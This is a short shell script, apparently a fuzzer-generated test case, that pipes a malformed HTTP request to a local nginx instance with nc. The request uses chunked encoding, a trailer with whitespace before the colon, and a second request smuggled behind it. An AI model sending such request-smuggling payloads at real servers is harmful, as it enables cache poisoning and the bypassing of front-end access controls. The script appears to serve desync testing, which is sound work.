#!/bin/sh
# desync/whitespace-before-colon/smuggled-request via stream.concatenate against nginx
printf 'T / HTTP/1.1\r\nHost:127.0.0.1:49285\r\nTransfer-Encoding:chunked\r\n\r\n0\r\nm : \n\r\nPT /eo HTTP/1.1\r\nHost: t}\r\n\r\n' | nc 127.0.0.1 ${PORT:-49285}
